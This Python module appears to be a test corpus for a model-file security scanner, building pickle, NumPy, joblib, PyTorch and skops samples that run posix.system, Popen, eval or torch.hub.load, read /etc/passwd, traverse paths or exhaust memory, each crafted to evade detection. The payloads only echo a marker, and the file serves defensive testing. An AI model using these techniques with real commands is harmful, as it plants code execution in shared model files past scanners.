"""Pickles whose opcodes, wrappers or neighbours are odd, so that a reader may lose the thread."""

import base64
import bz2
import gzip
import io
import lzma
import pickle
import struct
import zlib

import numpy as np

from .kit import EVIL, MARK, call, calling, literal, name_of, npy, program, stacked, technique

ECHO = f"echo {MARK}"
PLAIN = pickle.dumps({"weights": [1.0, 2.0]}, 4)
_MACHINE = "CPython, Lib/pickle.py and Modules/_pickle.c: what the machine accepts"
_SPLIT = "picklescan, issue of a pickle after the first (streams of several pickles)"


@technique(_MACHINE, "global")
def name_made_by_joining():
    joined = call(stacked("builtins", "str.join"), literal(""), literal(["sys", "tem"]))
    return program(literal("posix"), joined, b"\x93", literal((ECHO,)), b"R")


@technique(_MACHINE, "global")
def name_decoded_from_bytes():
    name = call(name_of("_codecs", "encode"), literal("system"), literal("latin1"))
    return program(literal("posix"), name, b"\x93", literal((ECHO,)), b"R")


@technique(_MACHINE, "global")
def name_left_by_another_name():
    """The memo's slot is filled twice; the reader who keeps the first reads another name."""
    return program(
        literal("collections") + b"q\x01" + literal("posix") + b"q\x01" + b"00",
        b"h\x01" + literal("system") + b"\x93" + literal((ECHO,)) + b"R",
    )


@technique(_MACHINE, "global")
def slot_far_away():
    return program(
        literal("posix")
        + b"r\xff\xff\xff\x7f"
        + b"0j\xff\xff\xff\x7f"
        + literal("system")
        + b"\x93"
        + literal((ECHO,))
        + b"R"
    )


@technique(_MACHINE, "global")
def class_on_the_stack_made():
    return program(b"(", name_of("posix", "system"), literal(ECHO), b"o")


@technique(_MACHINE, "global")
def instance_by_inst():
    return program(b"(", literal(ECHO), b"iposix\nsystem\n", protocol=0)


@technique(_MACHINE, "global")
def made_with_keywords():
    return program(name_of("subprocess", "Popen"), literal((ECHO,)), literal({"shell": True}), b"\x92")


@technique(_MACHINE, "global")
def result_of_a_call_called():
    got = call(name_of("operator", "attrgetter"), literal("system"))
    return program(call(call(got, name_of("builtins", "__import__")), literal(ECHO)))


@technique(_MACHINE, "global")
def thrown_away_after_the_call():
    return program(call(name_of("posix", "system"), literal(ECHO)), b"0", literal({"weights": 1}))


@technique(_MACHINE, "global")
def thrown_away_with_its_mark():
    return program(b"(", call(name_of("posix", "system"), literal(ECHO)), b"1", literal({"weights": 1}))


@technique(_MACHINE, "global")
def protocol_said_twice():
    return b"\x80\x04\x80\x02\x80\x04" + EVIL[2:]


@technique(_MACHINE, "global")
def frame_that_lies():
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + EVIL[2:]


@technique(_MACHINE, "global")
def frame_after_frame():
    inner = EVIL[2:]
    return (
        b"\x80\x04"
        + b"".join(b"\x95" + struct.pack("<Q", 1) + inner[i : i + 1] for i in range(0))
        + b"\x95"
        + struct.pack("<Q", len(inner))
        + inner
    )


@technique(_MACHINE, "malformed")
def string_longer_than_the_file():
    return b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"abc" + EVIL[2:]


@technique(_MACHINE, "malformed")
def no_stop():
    return program(call(name_of("posix", "system"), literal(ECHO)))[:-1]


@technique(_MACHINE, "malformed")
def unknown_opcode_after_the_call():
    return program(call(name_of("posix", "system"), literal(ECHO)))[:-1] + b"\xff"


@technique(
    "Liu et al. 2025, arXiv:2508.19774, exception-oriented programming: the call comes before the error",
    "global",
)
def error_after_the_call():
    return program(call(name_of("posix", "system"), literal(ECHO)), b"h\x63")


@technique("fickling, expansion attack analysis (billion laughs by DUP and memo)", "bomb")
def tuples_doubled_and_hashed():
    doubled = b")" + b"".join(b"2\x86" for _ in range(60))
    return program(b"}", doubled, b"Ns")


@technique("CWE-789, allocation with a size of the attacker's choice", "bomb")
def terabyte_of_zeros():
    return program(call(name_of("builtins", "bytearray"), literal(1 << 40)))


@technique("CWE-789, allocation with a size of the attacker's choice", "bomb")
def terabyte_of_numbers():
    return program(call(name_of("numpy", "ndarray"), literal((1 << 40,)), literal("f8")))


@technique(_SPLIT, "global")
def second_pickle_after_padding():
    return PLAIN + b"\x00" * 5000 + EVIL


@technique(_SPLIT, "global")
def hundredth_pickle():
    return PLAIN * 99 + EVIL


@technique("joblib, numpy_pickle_compat.py: the old layout with the array in a file beside it", "path")
def joblib_file_beside_outside():
    wrapper = program(
        name_of("joblib.numpy_pickle", "NDArrayWrapper"),
        b")\x81",
        literal({"filename": "../../../tmp/evil.npy", "subclass": None, "allow_mmap": True}),
        b"b",
        protocol=2,
    )
    return wrapper


@technique("joblib, numpy_pickle_compat.py: ZNDArrayWrapper names a file and a state", "path")
def joblib_compressed_file_beside():
    return program(
        name_of("joblib.numpy_pickle_compat", "ZNDArrayWrapper"),
        b")\x81",
        literal({"filename": "/tmp/evil.z", "init_args": None, "state": None}),
        b"b",
        protocol=2,
    )


@technique("joblib, numpy_pickle.py: an array of objects is a pickle of its own within the stream", "global")
def joblib_array_of_objects():
    state = b"}("
    for key, value in {"shape": (1,), "order": "C", "allow_mmap": False}.items():
        state += literal(key) + literal(value)
    state += literal("subclass") + name_of("numpy", "ndarray")
    state += (
        literal("dtype")
        + call(name_of("numpy", "dtype"), literal("O8"), literal(False), literal(True))
        + b"ub"
    )
    return (
        program(name_of("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state)[:-1]
        + EVIL[2:-1]
        + b"."
    )


@technique("joblib, compressor.py: the old prefix ZF of joblib 0.9", "global")
def joblib_zf_prefix():
    return b"ZF" + b"0x%-17x" % len(EVIL) + zlib.compress(EVIL)


_WRAP = "pandas, read_pickle and joblib, load: compression by content or name"


@technique(_WRAP, "global", "model.pkl.gz")
def gzip_second_member():
    return gzip.compress(PLAIN[:-1], mtime=0) + gzip.compress(b"0" + EVIL[2:], mtime=0)


@technique(_WRAP, "global", "model.pkl.xz")
def xz_in_bz2_in_gzip():
    return gzip.compress(bz2.compress(lzma.compress(EVIL)), mtime=0)


@technique(_WRAP, "global", "model.pkl.bz2")
def bz2_second_stream():
    return bz2.compress(PLAIN) + bz2.compress(EVIL)


@technique(_WRAP, "global", "model.lzma")
def lzma_alone():
    return lzma.compress(EVIL, format=lzma.FORMAT_ALONE)


@technique("RFC 1952, 2.3.1: an extra field and a name before the data", "global", "model.gz")
def gzip_with_extra_field():
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(EVIL) + body.flush()
    head = b"\x1f\x8b\x08\x0c" + b"\0" * 6 + struct.pack("<H", 4) + b"PK\x03\x04" + b"model.safetensors\0"
    return head + data + struct.pack("<II", zlib.crc32(EVIL), len(EVIL))


@technique(
    "MITRE ATLAS AML.T0011.000; pickles carried as text by many loaders", "unknown format", "model.b64"
)
def base64_of_a_pickle():
    return base64.b64encode(EVIL) + b"\n"


@technique("RFC 8878 zstandard, skippable frame before the data", "unknown format", "model.pkl.zst")
def zstd_skippable_frame_and_pickle():
    return b"\x50\x2a\x4d\x18" + struct.pack("<I", len(EVIL)) + EVIL


@technique("ncompress .Z, which pickle-loading code opens with unlzw", "unknown format", "model.pkl.Z")
def compress_z():
    return b"\x1f\x9d\x90" + EVIL


# NumPy ----------------------------------------------------------------------------------------------------------------

_NPY = "NumPy, lib/format.py: read_array with allow_pickle"


@technique(_NPY, "global", "x.npy")
def objects_in_a_record():
    return npy("[('a', '<f8'), ('b', 'O')]", "(1,)", EVIL)


@technique(_NPY, "global", "x.npy")
def objects_in_a_subarray():
    return npy("[('a', [('b', '|O', (2,))])]", "(1,)", EVIL)


@technique(_NPY, "global", "x.npy")
def objects_with_a_header_of_version_3():
    return npy("'|O'", "(1,)", EVIL, b"\x03\x00")


@technique(_NPY, "malformed", "x.npy")
def array_and_a_pickle_after_it():
    return npy("'<f8'", "(2,)", b"\0" * 16 + EVIL)


@technique("NumPy, lib/npyio.py: load falls back to pickle without the magic", "global", "x.npy")
def npy_that_is_a_pickle():
    return EVIL


@technique(
    "NumPy before 1.17 evaluated headers; a header is a literal and nothing else", "malformed", "x.npy"
)
def header_that_is_code():
    return npy("__import__('os').system('echo')", "(1,)", b"\0" * 8)


@technique(
    "NumPy, lib/npyio.py: a member of an npz without the magic is loaded as what it is", "global", "x.npz"
)
def pickle_in_an_npz():
    from .kit import zipped

    good = io.BytesIO()
    np.save(good, np.zeros(2))
    return zipped({"a.npy": good.getvalue(), "b.npy": npy("'|O'", "()", EVIL)})


# torch ----------------------------------------------------------------------------------------------------------------

_TORCH = "PyTorch, torch/serialization.py"


@technique(_TORCH + ": _legacy_load reads five pickles one after another", "global", "model.pt")
def torch_legacy_third_pickle():
    head = [pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001)]
    return b"".join(head) + EVIL + pickle.dumps({}, 2) + pickle.dumps([], 2)


@technique(_TORCH + ": a persistent id of the kind module carries source code", "global", "model.pt")
def torch_legacy_module_with_source():
    head = [pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    ident = b"(" + literal("module") + name_of("builtins", "eval") + literal("x.py") + literal(CODE) + b"tQ"
    return b"".join(head) + program(ident, protocol=2) + pickle.dumps([], 2)


CODE = f"print('{MARK}')"


@technique(_TORCH + ": persistent ids are made of whatever the pickle pushes", "global", "model.pt")
def torch_persistent_id_called():
    from .kit import torch_zip

    ident = (
        b"("
        + literal("storage")
        + call(name_of("posix", "system"), literal(ECHO))
        + literal("0")
        + literal("cpu")
        + literal(1)
        + b"tQ"
    )
    return torch_zip(program(ident, protocol=2), data__0=b"\0" * 4)


@technique(_TORCH + ": the storage's class comes from the pickle", "global", "model.pt")
def torch_storage_of_another_class():
    from .kit import torch_zip

    ident = (
        b"("
        + literal("storage")
        + name_of("os", "PathLike")
        + literal("0")
        + literal("cpu")
        + literal(1)
        + b"tQ"
    )
    return torch_zip(program(ident, protocol=2), data__0=b"\0" * 4)


@technique(_TORCH + ": hooks of a module are run on its first use", "global", "model.pt")
def torch_hook_of_a_module():
    from .kit import torch_zip

    hooks = b"}" + literal("_forward_pre_hooks") + b"}" + literal(0) + name_of("torch.hub", "load") + b"ss"
    return torch_zip(program(name_of("torch.nn.modules.linear", "Linear"), b")\x81", hooks, b"b", protocol=2))


@technique("TorchScript, constants.pkl beside the code", "global", "model.pt")
def torchscript_constants():
    from .kit import torch_zip

    return torch_zip(pickle.dumps({}, 2), constants_pkl=EVIL, **{"constants.pkl": EVIL})


@technique(
    "PyTorch security policy: TorchScript is a program; torch.ops.aten.save and from_file touch files",
    "operator",
    "model.pt",
)
def torchscript_reads_a_file():
    from .kit import torch_zip

    code = b"def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file('/etc/passwd', None, 64, dtype=0)\n"
    return torch_zip(pickle.dumps({}, 2), **{"code/__torch__.py": code, "constants.pkl": pickle.dumps((), 2)})


@technique(
    "PyTorch, torch.export: an AOTInductor package holds a shared library", "unknown format", "model.pt2"
)
def aot_library_in_a_pt2():
    from .kit import zipped

    return zipped(
        {
            "m/archive_format": b"pt2",
            "m/archive_version": b"0",
            "m/data/aotinductor/model/x.wrapper.so": b"\x7fELF\x02\x01\x01" + b"\0" * 57,
        }
    )


@technique(
    "PyTorch, torch/_export/serde: symbolic expressions were read by sympify, which evaluates",
    "remote code",
    "model.pt2",
)
def expression_in_a_pt2():
    from .kit import zipped

    program_json = b'{"range_constraints": {"__import__(\'os\').system(\'echo\')": {"min_val": 0}}, "schema_version": {"major": 8}}'
    return zipped({"m/archive_format": b"pt2", "m/models/model.json": program_json, "m/version": b"3\n"})


@technique("PyTorch, torch.package: sources within the archive are imported", "remote code", "model.pt")
def package_with_sources():
    from .kit import zipped

    return zipped(
        {
            "p/.data/extern_modules": b"os\n",
            "p/.data/version": b"6\n",
            "p/evil.py": b"import os\nos.system('echo')\n",
            "p/model/model.pkl": program(name_of("<torch_package_0>.evil", "Model"), b")\x81", protocol=2),
        }
    )


# skops ----------------------------------------------------------------------------------------------------------------


def _skops(schema: str, **members: bytes) -> bytes:
    from .kit import zipped

    return zipped({"schema.json": schema.encode()} | members)


@technique("CVE-2025-54412, skops: OperatorFuncNode calls a name of operator", "class name", "m.skops")
def skops_operator_node():
    return _skops(
        '{"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", '
        '"attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}, '
        '"protocol": 2, "_skops_version": "0.11.0"}'
    )


@technique("CVE-2025-54413, skops: MethodNode reaches an attribute of any object", "class name", "m.skops")
def skops_method_node():
    return _skops(
        '{"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode", '
        '"content": {"func": "__init_subclass__", "obj": {"__class__": "Popen", "__module__": "subprocess", '
        '"__loader__": "ObjectNode", "content": null}}, "protocol": 2, "_skops_version": "0.11.0"}'
    )


@technique("CVE-2025-54886, skops: Card.get_model falls back to joblib", "global", "m.skops")
def skops_that_is_joblib():
    return EVIL


@technique("skops, _general.py: the loader is chosen by the file", "class name", "m.skops")
def skops_loader_of_another_type():
    return _skops(
        '{"__class__": "system", "__module__": "posix", "__loader__": "JsonNode", "content": "1", '
        '"protocol": 2, "_skops_version": "0.11.0"}'
    )


@technique("skops, _numpy.py: the array's file is named in the schema", "path", "m.skops")
def skops_array_from_elsewhere():
    return _skops(
        '{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", '
        '"file": "../../etc/x.npy", "protocol": 2, "_skops_version": "0.11.0"}'
    )
